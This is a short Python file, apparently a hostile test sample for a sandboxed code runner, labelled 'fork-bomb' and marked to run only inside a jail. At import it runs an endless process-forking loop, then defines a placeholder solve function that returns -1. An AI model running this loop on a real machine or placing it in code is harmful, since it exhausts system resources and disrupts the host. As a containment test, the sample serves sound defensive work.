# category: fork-bomb
# kind: function
# danger: jail (run only inside the jail)
import os
try:
    while True:
        if os.fork() == 0: os._exit(0)
except OSError: pass
def solve(n):
    return -1
